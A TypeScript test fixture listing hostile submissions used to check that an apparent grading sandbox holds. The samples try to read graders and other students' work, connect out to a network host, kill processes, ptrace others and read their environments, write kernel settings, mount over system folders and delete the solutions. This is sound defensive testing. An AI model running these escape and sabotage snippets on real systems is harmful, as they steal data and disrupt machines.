/** Try to break out: to the network, the checks, other students' work, the judging process. */
import { root } from '../../root.ts';
import { besides, type Hostile } from './hostile.ts';
import { server } from './solutions.ts';

export const intruders: Hostile[] = [
  {
    id: 'reads-the-checks',
    does: 'looks for the checks, the solution and the work of others, and copies what it finds',
    stage: 1,
    files: {
      'server.ts': `import { readdirSync, readFileSync } from 'node:fs';
const found: string[] = [];
const look = (action: () => unknown, what: string) => { try { if (action()) found.push(what); } catch {} };
const root = ${JSON.stringify(root)};
for (const place of ['solutions/stage-1-tcp-server/server.ts', 'checkers/run/run.ts', 'stages/stage-1-tcp-server/server.ts'])
  look(() => readFileSync(root + '/' + place), place);
look(() => readdirSync('/home').length > 0, 'homes');
look(() => readdirSync('/root').some((name) => name !== '.pyenv'), 'the home of root');
look(() => readdirSync('/tmp').some((name) => name.startsWith('workshop-grade-') && !process.cwd().includes(name)), 'others');
look(() => readdirSync(process.cwd() + '/../submission'), 'what was handed in');
console.error(found.length === 0 ? 'nothing was found' : 'FOUND ' + found.join(', '));`,
    },
    deserves: 'none',
    words: /nothing was found/,
    from: 'bubblewrap',
  },
  {
    id: 'calls-out',
    does: 'sends its data to a host on the network',
    stage: 1,
    files: {
      'server.ts': `import { connect } from 'node:net';
const socket = connect(53, '192.0.2.1');
socket.once('error', (error: NodeJS.ErrnoException) => { console.error('not sent: ' + error.code); process.exit(1); });
socket.once('connect', () => { console.error('SENT'); process.exit(1); });`,
    },
    deserves: 'none',
    words: /not sent: (ENETUNREACH|EHOSTUNREACH)/,
    from: 'unshare',
  },
  {
    id: 'kills-everybody',
    does: 'kills its parent and every other process that it may, then serves',
    stage: 1,
    files: {
      'server.ts': besides(
        server,
        `import { readdirSync } from 'node:fs';
const others = readdirSync('/proc').map(Number).filter((pid) => pid > 1 && pid !== process.pid && pid !== process.ppid);
for (const pid of others) try { process.kill(pid, 'SIGKILL'); } catch {}`,
      ),
    },
    deserves: 'all',
    from: 'unshare',
  },
  {
    id: 'kills-its-parent',
    does: 'kills the process that started it',
    stage: 1,
    files: { 'server.ts': "process.kill(process.ppid, 'SIGKILL'); setInterval(() => {}, 1000);" },
    deserves: 'none',
    from: 'user',
  },
  {
    id: 'changes-its-program',
    does: 'overwrites its own program for the next check',
    stage: 1,
    files: {
      'server.ts': besides(
        server,
        `import { rmSync, writeFileSync } from 'node:fs';
const own = process.argv[1] ?? '';
try { rmSync(own); writeFileSync(own, 'process.exit(0)'); } catch {}
try { writeFileSync(own, 'process.exit(0)'); } catch {}`,
      ),
    },
    deserves: 'all',
    from: 'bubblewrap',
  },
  {
    id: 'becomes-root',
    does: 'creates namespaces to gain rights, and mounts over visible folders',
    stage: 1,
    files: {
      'server.ts': `import { spawnSync } from 'node:child_process';
const made = spawnSync('unshare', ['--user', '--map-root-user', '--mount', 'mount', '-t', 'tmpfs', 'x', '/usr']);
console.error(made.status === 0 ? 'MOUNTED' : 'refused');`,
    },
    deserves: 'none',
    words: /refused/,
    from: 'bubblewrap',
  },
  {
    id: 'looks-around',
    does: 'looks into other processes, at sockets and descriptors, and changes settings of the machine',
    stage: 1,
    files: {
      'server.ts': `import { readdirSync, readFileSync, readlinkSync, writeFileSync } from 'node:fs';
import koffi from 'koffi';
const attach = koffi.load('libc.so.6').func('long ptrace(long, int, long, long)');
const found: string[] = [];
const look = (action: () => unknown, what: string) => { try { if (action()) found.push(what); } catch {} };
const nameOf = (pid: string) => readFileSync('/proc/' + pid + '/comm', 'utf8').trim();
// Changes within its own sandbox are allowed.
const others = readdirSync('/proc').filter((name) => /^\\d+$/.test(name) && Number(name) !== process.pid && nameOf(name) !== 'bwrap');
for (const pid of others) {
  look(() => attach(16, Number(pid), 0, 0) === 0, 'process ' + pid);
  look(() => readFileSync('/proc/' + pid + '/environ'), 'environment of ' + pid);
}
for (const line of readFileSync('/proc/net/unix', 'utf8').trim().split('\\n').slice(1)) look(() => line.split(/ +/)[7], line);
const settings = ['kernel/hostname', 'kernel/core_pattern', 'net/ipv4/ip_local_port_range', 'net/ipv4/ip_unprivileged_port_start', 'net/ipv4/tcp_wmem'];
for (const name of settings) look(() => { writeFileSync('/proc/sys/' + name, '1024 1030'); return true; }, name);
look(() => { writeFileSync('/proc/1/oom_score_adj', '-500'); return true; }, 'oom_score_adj');
for (const fd of readdirSync('/proc/self/fd')) look(() => /^\\/(?!dev|proc)/.test(readlinkSync('/proc/self/fd/' + fd)) && Number(fd) > 2, 'descriptor ' + fd);
console.error(found.length === 0 ? 'nothing was found' : 'FOUND ' + found.join(', '));`,
    },
    deserves: 'none',
    words: /nothing was found/,
    from: 'bubblewrap',
  },
  {
    id: 'borrows-the-tools',
    does: 'has the workshop’s own compiler bundle the solution, or becomes it, while it runs',
    stage: 1,
    files: {
      'server.ts': `import { createRequire } from 'node:module';
import koffi from 'koffi';
const root = ${JSON.stringify(root)};
const solution = root + '/solutions/stage-1-tcp-server/server.ts';
try {
  createRequire(root + '/package.json')('esbuild').buildSync({ entryPoints: [solution], bundle: true, outfile: '/tmp/x.cjs', external: ['koffi'], platform: 'node' });
  createRequire(import.meta.url)('/tmp/x.cjs').main();
} catch (error) { console.error(String(error)); }
const execve = koffi.load('libc.so.6').func('int execve(const char *, const char **, const char **)');
execve(process.execPath, [process.execPath, '--import', 'tsx', solution, null], ['PORT=' + process.env.PORT, null]);
process.exit(1);`,
    },
    deserves: 'none',
    from: 'bubblewrap',
  },
  {
    id: 'builds-elsewhere',
    does: 'has a build that writes outside its folder and continues in the background',
    stage: 1,
    files: {
      'workshop.json': JSON.stringify({
        build: `for place in ${root} /usr /etc $HOME/../submission; do echo x > $place/workshop-litter && echo WROTE $place; done; rm -rf ${root}/solutions; setsid sleep 7654324 & echo built > done`,
        run: 'cat done >&2; exit 4',
      }),
    },
    deserves: 'none',
    words: /^built$/,
    from: 'bubblewrap',
    leaves: 'sleep\u00007654324',
    litters: [`${root}/workshop-litter`, '/usr/workshop-litter', '/etc/workshop-litter'],
  },
];
